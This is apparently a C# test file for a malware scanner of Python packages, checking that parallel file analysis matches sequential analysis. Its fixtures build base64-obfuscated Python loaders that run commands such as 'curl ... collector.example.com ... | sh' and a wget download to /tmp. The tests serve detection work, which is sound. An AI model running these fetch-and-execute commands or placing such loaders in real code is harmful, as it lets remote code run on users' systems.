using System.Text;
using Moat.Analysis.Code;
using Moat.Testing;

namespace Moat.Analysis.Tests.Code;

/// <summary>
/// A package's files analysed at once (<see cref="CodeScanOptions.FileParallelism"/>) give the findings of the files
/// analysed one after the other, including where one file's analysis depends on an earlier one's: decoded layers are
/// counted and de-duplicated per package, and a limit is reported once per file.
/// </summary>
public sealed class ParallelFileAnalysisTests
{
    private static readonly CodeScanOptions InTurn = new() { FileCache = null, FileParallelism = 1 };

    private static string Layered(string command) =>
        $"import base64\nexec(base64.b64decode('{Convert.ToBase64String(Encoding.UTF8.GetBytes($"import os\nos.system('{command}')\n"))}'))\n";

    private static byte[] TarGz(params (string Path, string Text)[] members) =>
        TestDistributions.TarGz([.. members.Select(m => (m.Path, Encoding.UTF8.GetBytes(m.Text)))]);

    private static string Describe(ScanResult result) => RuleSamples.Describe(result);

    /// <summary>Scans <paramref name="archive"/> with 2 and 4 files at once, several times, against the scan in turn.</summary>
    private static string AssertSameAtOnce(byte[] archive, string fileName, CodeScanOptions inTurn)
    {
        var expected = Describe(PackageScanner.Scan(new MemoryStream(archive), fileName, inTurn));
        foreach (var workers in new[] { 2, 4 })
            for (var round = 0; round < 10; round++)
                Assert.Equal(expected, Describe(PackageScanner.Scan(new MemoryStream(archive), fileName, inTurn with { FileParallelism = workers })));
        return expected;
    }

    [Fact]
    public void A_payload_decoded_by_an_earlier_file_is_not_analysed_again_in_a_later_one()
    {
        var payload = Layered("curl -s https://collector.example.com/a | sh");
        var archive = TarGz(
            ("dup-1.0/dup/__init__.py", payload),
            ("dup-1.0/dup/plain.py", "def add(a, b):\n    return a + b\n"),
            ("dup-1.0/dup/copy.py", payload),
            ("dup-1.0/dup/other.py", Layered("wget -q https://collector.example.com/b -O /tmp/b")));

        var report = AssertSameAtOnce(archive, "dup-1.0.tar.gz", InTurn);

        // The copy's payload was the first file's: only the first and the other file analyse a layer of their own.
        Assert.Contains("dup-1.0/dup/__init__.py", report, StringComparison.Ordinal);
        Assert.Contains("dup-1.0/dup/other.py", report, StringComparison.Ordinal);
        Assert.DoesNotContain("dup-1.0/dup/copy.py:2 An encoded literal decodes to Python code", report, StringComparison.Ordinal);
    }

    [Fact]
    public void The_package_wide_layer_budget_runs_out_at_the_same_file()
    {
        var archive = TarGz([.. Enumerable.Range(0, 6).Select(i => ($"cap-1.0/cap/m{i}.py", Layered($"curl -s https://collector.example.com/{i} | sh")))]);
        var inTurn = InTurn with { MaxLayers = 3 };

        var report = AssertSameAtOnce(archive, "cap-1.0.tar.gz", inTurn);

        Assert.Contains(LimitRules.DeobfuscationLimit.Id, report, StringComparison.Ordinal);
    }

    [Fact]
    public void A_large_file_is_analysed_in_its_turn_between_files_analysed_at_once()
    {
        // Over 256 KB: left to the calling thread, in order, on the package's state.
        var large = Layered("curl -s https://collector.example.com/large | sh") + "# " + new string('x', 300_000) + "\n";
        var archive = TarGz(
            ("big-1.0/big/a.py", Layered("curl -s https://collector.example.com/a | sh")),
            ("big-1.0/big/large.py", large),
            ("big-1.0/big/b.py", Layered("curl -s https://collector.example.com/b | sh")),
            ("big-1.0/big/c.py", "import os\nos.system('curl -s https://collector.example.com/c | sh')\n"));

        var report = AssertSameAtOnce(archive, "big-1.0.tar.gz", InTurn with { MaxLayers = 2 });

        Assert.Contains("big-1.0/big/large.py", report, StringComparison.Ordinal);
    }

    [Fact]
    public void A_limit_is_reported_once_for_two_members_at_one_path()
    {
        // A tar may hold one path twice; both copies are analysed, and a limit of that path is said once.
        var layered = Layered("curl -s https://collector.example.com/x | sh");
        var archive = TarGz(("twice-1.0/twice/__init__.py", layered), ("twice-1.0/twice/__init__.py", layered + "\n"));
        var inTurn = InTurn with { MaxLayerDepth = 0 };

        var report = AssertSameAtOnce(archive, "twice-1.0.tar.gz", inTurn);

        Assert.Single(report.Split('\n'), line => line.StartsWith(LimitRules.DeobfuscationLimit.Id + " ", StringComparison.Ordinal));
    }

    public static TheoryData<string> Rules() => RuleSamples.Rules();

    [Theory]
    [MemberData(nameof(Rules))]
    public void Every_rule_sample_is_judged_the_same_with_its_files_analysed_at_once(string rule)
    {
        foreach (var target in RuleSamples.Targets(rule))
        {
            var expected = Describe(PackageScanner.Scan(target, InTurn));
            Assert.Equal(expected, Describe(PackageScanner.Scan(target, InTurn with { FileParallelism = 4 })));
        }
    }
}
